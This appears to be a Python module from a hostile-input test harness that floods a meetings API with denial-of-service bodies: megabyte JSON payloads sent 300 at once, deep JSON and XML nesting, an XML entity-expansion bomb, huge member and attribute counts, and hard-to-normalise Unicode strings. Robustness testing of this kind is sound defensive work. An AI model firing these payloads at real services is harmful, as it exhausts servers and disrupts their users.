"""Attacks by what is in a body."""

from __future__ import annotations

import json

from prove.hostile.target import Answers, Target
from prove.hostile.wire import at_once, request

_LARGEST = 1024 * 1024
_XML = "application/xml"
_MARKS = "\u0316\u0301"


async def megabytes(target: Target, outcome: Answers) -> None:
    """Send three hundred bodies of a megabyte at once."""
    body = json.dumps({"description": "a" * (_LARGEST - 30)}).encode()
    for _ in range(target.rounds):
        await at_once(target, [request(target, "POST", target.meetings, body)] * 300, outcome)


async def nesting(target: Target, outcome: Answers) -> None:
    """Send what nests as deep as a megabyte lets it."""
    asked = [
        _posted(target, (opening * _LARGEST)[:_LARGEST])
        for opening in (b"[", b'{"a":', b"[[],", b'{"a":[')
    ]
    depth = _LARGEST // len(b"<resource></resource>")
    element = b"<resource>" * depth + b"</resource>" * depth
    asked += [_posted(target, element, _XML), _posted(target, b"<a>" * (_LARGEST // 3), _XML)]
    expanded = b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY %c "%b">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(10)
    )
    asked.append(_posted(target, expanded + b"]><input>&k;</input>", _XML))
    for _ in range(target.rounds):
        await at_once(target, asked * 4, outcome)


async def members(target: Target, outcome: Answers) -> None:
    """Send tens of thousands of members, attributes, properties and namespaces."""
    count = _LARGEST // 32
    asked = [
        _posted(target, json.dumps({f"member{n:08}": "aaaa" for n in range(count)}).encode()),
        _posted(target, b'{"attendees":[' + b",".join([b'""'] * (_LARGEST // 4)) + b"]}"),
        _posted(target, b'{"subject":' + b"1" * (_LARGEST - 20) + b"}"),
    ]
    fillings = (
        "<input {}/>".format(" ".join(f'a{n}="1"' for n in range(count * 2))),
        "<input {}/>".format(" ".join(f'xmlns:a{n}="b{n}"' for n in range(count))),
        "<input>{}</input>".format(
            "".join(f'<property name="a{n}"/>' for n in range(count)),
        ),
        "<input>{}</input>".format(
            '<propertyList name="attendees">' + "<item/>" * (_LARGEST // 8) + "</propertyList>"
        ),
        '<input><property name="subject">{}</property></input>'.format("&#97;" * (_LARGEST // 6)),
        "<input>{}</input>".format("<!---->" * (_LARGEST // 8)),
    )
    asked += [_posted(target, text.encode()[:_LARGEST], _XML) for text in fillings]
    for _ in range(target.rounds):
        await at_once(target, asked * 2, outcome)


async def texts(target: Target, outcome: Answers) -> None:
    """Send texts that are hard to normalise, to compare or to read as what they are not."""
    marks = "a" + _MARKS * 100_000
    people = [f"sip:{n}{'İ' * 40}{_MARKS * 20}@contoso.com" for n in range(1500)]
    wanted: list[dict[str, object]] = [
        {"subject": marks},
        {"description": marks},
        {"attendees": people, "leaders": people},
        {"attendees": ["sip:" + marks + "@contoso.com"]},
        {"attendees": ["sip:" + "a." * 200_000 + "@contoso.com"]},
        {"expirationTime": "2027-01-31T12:00:00." + "0" * 900_000 + "Z"},
        {"expirationTime": "/Date(" + "1" * 900_000 + ")/"},
        {"accessLevel": marks},
    ]
    bodies = [json.dumps(one, ensure_ascii=False).encode() for one in wanted]
    for _ in range(target.rounds):
        await at_once(target, [_posted(target, one) for one in bodies] * 4, outcome)


def _posted(target: Target, body: bytes, media_type: str = "application/json") -> bytes:
    return request(target, "POST", target.meetings, body, media_type=media_type)
